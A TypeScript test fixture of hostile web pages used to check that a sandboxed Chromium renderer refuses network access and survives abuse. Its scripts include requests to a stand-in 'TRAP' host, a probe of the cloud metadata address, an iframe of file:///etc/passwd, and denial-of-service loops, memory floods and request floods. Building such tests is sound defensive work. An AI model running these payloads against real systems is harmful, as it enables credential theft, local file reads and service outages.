// Pages that attack what renders them, and what must be stored about each of them.

/** A hostile page. `TRAP` is the authority of a server that must get no connection, `UDP` that of a socket that must get no packet. */
export interface HostilePage {
  readonly path: string;
  readonly script: string;
  /** Parts of the outcome. */
  readonly expected: Readonly<Record<string, unknown>>;
  /** It can take all of its time, which has this length in milliseconds. */
  readonly time?: number;
  /** The page fails with one of these codes. */
  readonly codes?: readonly string[];
}

const AFTER = "document.title = 'After'";
const RENDERED = { kind: 'rendered', after: { title: 'After' } };
/** For pages that end with their time in any case. */
const SHORT = 1_000;
/** For pages that can end with their time, but must be read: on a slow machine, that takes seconds. */
const MEDIUM = 30_000;
const append = (element: string): string => `document.body.insertAdjacentHTML('beforeend', '${element}');`;

/** Ways to the network whose requests this process sees and refuses, each with its URL. */
const REFUSED: readonly (readonly [script: string, url: string])[] = [
  ["fetch('http://TRAP/fetch').catch(() => {});", 'http://TRAP/fetch'],
  ["fetch('http://169.254.169.254/latest/').catch(() => {});", 'http://169.254.169.254/latest/'],
  ["fetch('http://localhost:TRAPPORT/').catch(() => {});", 'http://localhost:TRAPPORT/'],
  ["fetch('/to-trap').catch(() => {});", 'http://TRAP/redirected'],
  ["const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/xhr'); x.send();", 'http://TRAP/xhr'],
  [
    "const s = document.createElement('script'); s.src = 'http://TRAP/script'; document.body.append(s);",
    'http://TRAP/script',
  ],
  [append('<iframe src="http://TRAP/frame"></iframe>'), 'http://TRAP/frame'],
  ["new EventSource('http://TRAP/events');", 'http://TRAP/events'],
];

/** Other ways to the network, which Chromium refuses by itself. */
const OTHERS: readonly string[] = [
  "new Worker(URL.createObjectURL(new Blob([`fetch('http://TRAP/worker')`])));",
  "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://TRAP/shared-worker')`])));",
  "navigator.serviceWorker.register('/worker.js').catch(() => {});",
  "new Image().src = 'http://TRAP/image.png';",
  "navigator.sendBeacon('http://TRAP/beacon', 'x');",
  "new WebSocket('ws://TRAP/socket');",
  append('<link rel="preconnect" href="http://TRAP/"><link rel="prefetch" href="http://TRAP/prefetch">'),
  append('<iframe src="file:///etc/passwd"></iframe>'),
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }, { urls: 'turn:TRAP?transport=tcp', username: 'a', credential: 'b' }] });
   peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
  "try { new WebTransport('https://UDP/').ready.catch(() => {}); } catch {}",
];

/** Ways to another document, of which a page can go one. */
const NAVIGATIONS: readonly (readonly [name: string, script: string])[] = [
  ['location', "location.href = 'http://TRAP/location';"],
  [
    'form',
    `${append('<form method="post" action="http://TRAP/form"></form>')} document.querySelector('form').submit();`,
  ],
  [
    'download',
    `${append('<a download href="http://TRAP/file">x</a>')} document.querySelector('[download]').click();`,
  ],
  ['window', "open('http://TRAP/window'); open('/kept');"],
];

export const HOSTILE_PAGES: readonly HostilePage[] = [
  {
    path: '/network/refused',
    script: `${REFUSED.map(([script]) => script).join(' ')} ${AFTER};`,
    expected: { ...RENDERED, refused: REFUSED.map(([, url]) => ({ url, reason: 'robots-unreachable' })) },
  },
  {
    path: '/network/others',
    script: `${OTHERS.join(' ')} ${AFTER};`,
    expected: RENDERED,
  },
  ...NAVIGATIONS.map(([name, script]) => ({
    path: `/network/${name}`,
    script: `${script} ${AFTER};`,
    expected: RENDERED,
  })),
  { path: '/endless', script: 'for (;;);', expected: { kind: 'failure', code: 'timeout' }, time: SHORT },
  {
    path: '/endless-later',
    script: `${AFTER}; setTimeout(() => { for (;;); }, 100);`,
    expected: { kind: 'failure', code: 'timeout' },
    time: SHORT,
  },
  {
    path: '/memory',
    script: 'const all = []; for (;;) all.push(new Uint8Array(20_000_000).fill(1));',
    expected: { kind: 'failure' },
    codes: ['memory', 'crashed'],
  },
  {
    path: '/heap',
    // Garbage collection does not look at the elements of such arrays.
    script: 'const all = []; for (;;) all.push(Array(100_000).fill(0.5));',
    expected: { kind: 'failure' },
    codes: ['memory', 'crashed'],
  },
  {
    path: '/elements',
    // Their layout would take a minute.
    script: "document.body.hidden = true; document.body.innerHTML = '<i></i>'.repeat(200_001);",
    expected: { kind: 'failure', code: 'too-large' },
  },
  {
    path: '/long-text',
    script: `document.body.title = 'x'.repeat(10_000_000); ${AFTER};`,
    expected: RENDERED,
  },
  {
    path: '/many-requests',
    script: `for (let n = 0; n < 2_100; n++) fetch('/data.json?' + n).catch(() => {}); ${AFTER};`,
    expected: { kind: 'failure', code: 'requests' },
  },
  {
    path: '/requests-without-end',
    script: `${AFTER}; let n = 0; const again = () => fetch('/data.json?' + n++).catch(() => {}).then(again); for (let i = 0; i < 50; i++) again();`,
    expected: {},
    time: SHORT,
  },
  {
    path: '/dialogs',
    script: `for (let n = 0; n < 5; n++) { alert(n); confirm(n); prompt(n); } ${AFTER}; onbeforeunload = (event) => event.preventDefault();`,
    expected: RENDERED,
  },
  {
    path: '/windows',
    script: `for (let n = 0; n < 100; n++) open('/kept'); ${AFTER};`,
    expected: RENDERED,
    time: MEDIUM,
  },
  {
    path: '/navigations',
    script: `${AFTER}; let n = 0; setInterval(() => { location.href = '/kept?' + n++; }, 50);`,
    expected: { ...RENDERED, redirect: 'ORIGIN/kept?0' },
    time: MEDIUM,
  },
  {
    path: '/timers',
    script: `${AFTER}; const f = () => { setTimeout(f); setTimeout(f); }; f();`,
    expected: {},
    time: SHORT,
  },
  { path: '/closes', script: `${AFTER}; close();`, expected: RENDERED },
  {
    path: '/empty',
    script: 'document.documentElement.remove();',
    expected: { kind: 'rendered', after: { title: null } },
  },
];
